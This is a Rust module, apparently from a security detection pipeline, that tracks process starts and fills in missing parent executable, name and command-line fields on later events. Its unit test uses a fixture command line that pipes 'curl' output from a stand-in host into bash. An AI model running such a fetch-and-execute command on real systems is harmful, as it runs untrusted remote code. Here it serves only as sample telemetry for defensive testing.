//! Parent lineage from a process table: sources such as eslogger name a new process's parent only by pid.
//! [`Lineage`] remembers the executable (and command line) of every process start it sees, keyed by host and
//! pid, and fills `process.parent.executable` / `process.parent.name` / `process.parent.command_line` into
//! later events that have `process.parent.pid` but not those fields, so rules and alert reasons written against
//! the Elastic shape (`process.parent.name`) work on them.
//! The table is bounded; the oldest entries go first.

use std::collections::{BTreeMap, VecDeque};
use std::sync::LazyLock;

use crate::{Event, Field, Value};

const MAX_PROCS: usize = 100_000;

struct LineageFields {
    category: Field,
    etype: Field,
    host_id: Field,
    pid: Field,
    exe: Field,
    name: Field,
    ppid: Field,
    pexe: Field,
    pname: Field,
    cmd: Field,
    pcmd: Field,
}

static F: LazyLock<LineageFields> = LazyLock::new(|| LineageFields {
    category: Field::intern("event.category"),
    etype: Field::intern("event.type"),
    host_id: Field::intern("host.id"),
    pid: Field::intern("process.pid"),
    exe: Field::intern("process.executable"),
    name: Field::intern("process.name"),
    ppid: Field::intern("process.parent.pid"),
    pexe: Field::intern("process.parent.executable"),
    pname: Field::intern("process.parent.name"),
    cmd: Field::intern("process.command_line"),
    pcmd: Field::intern("process.parent.command_line"),
});

fn has(ev: &Event, f: Field, want: &str) -> bool {
    match ev.get(f) {
        Some(Value::Str(s)) => &**s == want,
        Some(Value::Array(a)) => a.iter().any(|v| v.as_str() == Some(want)),
        _ => false,
    }
}

/// What the table keeps of one process start.
struct Proc {
    exe: Value,
    name: Option<Value>,
    command_line: Option<Value>,
}

#[derive(Default)]
pub struct Lineage {
    procs: BTreeMap<(String, i64), Proc>,
    order: VecDeque<(String, i64)>,
}

impl Lineage {
    fn host(ev: &Event) -> String {
        ev.get(F.host_id)
            .and_then(Value::as_str)
            .unwrap_or_default()
            .to_string()
    }

    /// Records process starts; returns the event with its parent image filled in when it was missing
    /// and known (`None`: nothing to add, use the event as is).
    pub fn observe(&mut self, ev: &Event) -> Option<Event> {
        let f = &*F;
        if has(ev, f.category, "process") && has(ev, f.etype, "start") {
            if let (Some(pid), Some(exe)) = (ev.get(f.pid).and_then(Value::as_i64), ev.get(f.exe)) {
                let key = (Lineage::host(ev), pid);
                if !self.procs.contains_key(&key) {
                    self.order.push_back(key.clone());
                    if self.order.len() > MAX_PROCS {
                        if let Some(old) = self.order.pop_front() {
                            self.procs.remove(&old);
                        }
                    }
                }
                self.procs.insert(
                    key,
                    Proc {
                        exe: exe.clone(),
                        name: ev.get(f.name).cloned(),
                        command_line: ev.get(f.cmd).cloned(),
                    },
                );
            }
        }
        if ev.get(f.pexe).is_some() && ev.get(f.pname).is_some() && ev.get(f.pcmd).is_some() {
            return None;
        }
        let ppid = ev.get(f.ppid).and_then(Value::as_i64)?;
        let parent = self.procs.get(&(Lineage::host(ev), ppid))?;
        // A parent image the event names itself wins; the table only fills what is missing, and only from
        // the same image (a parent whose executable differs from the table's has exec'd since).
        if let Some(own) = ev.get(f.pexe) {
            if own != &parent.exe {
                return None;
            }
        }
        let mut out = ev.clone();
        if out.get(f.pexe).is_none() {
            out.set(f.pexe, parent.exe.clone());
        }
        if out.get(f.pname).is_none() {
            let n = parent.name.clone().or_else(|| {
                parent
                    .exe
                    .as_str()
                    .map(|p| Value::Str(p.rsplit('/').next().unwrap_or(p).into()))
            });
            if let Some(n) = n {
                out.set(f.pname, n);
            }
        }
        if out.get(f.pcmd).is_none() {
            if let Some(c) = &parent.command_line {
                out.set(f.pcmd, c.clone());
            }
        }
        Some(out)
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::expect_used)]
    use super::*;

    fn exec(pid: i64, ppid: i64, exe: &str) -> Event {
        Event::from_json(&serde_json::json!({"event": {"category": ["process"], "type": ["start"]}, "host": {"id": "h"},
            "process": {"pid": pid, "executable": exe, "parent": {"pid": ppid}}}))
        .unwrap()
    }

    #[test]
    fn fills_parent_from_earlier_exec() {
        let mut l = Lineage::default();
        assert!(l.observe(&exec(10, 1, "/usr/sbin/installer")).is_none());
        let filled = l.observe(&exec(11, 10, "/bin/bash")).unwrap();
        assert_eq!(
            filled
                .get_path("process.parent.name")
                .and_then(Value::as_str),
            Some("installer")
        );
        assert_eq!(
            filled
                .get_path("process.parent.executable")
                .and_then(Value::as_str),
            Some("/usr/sbin/installer")
        );
        // Unknown parent: nothing to add.
        assert!(l.observe(&exec(12, 99, "/bin/sh")).is_none());
    }

    #[test]
    fn fills_parent_command_line_from_the_same_image_only() {
        let mut l = Lineage::default();
        let mut bash = exec(20, 1, "/bin/bash");
        bash.set(
            Field::intern("process.command_line"),
            Value::Str("/bin/bash -c curl -s https://x.example/i | bash".into()),
        );
        assert!(l.observe(&bash).is_none());
        let filled = l.observe(&exec(21, 20, "/usr/bin/osascript")).unwrap();
        assert_eq!(
            filled
                .get_path("process.parent.command_line")
                .and_then(Value::as_str),
            Some("/bin/bash -c curl -s https://x.example/i | bash")
        );
        // The event names another parent image than the table: the table is stale, nothing is mixed in.
        let mut other = exec(22, 20, "/bin/sh");
        other.set(
            Field::intern("process.parent.executable"),
            Value::Str("/usr/bin/python3".into()),
        );
        assert!(l.observe(&other).is_none());
    }
}
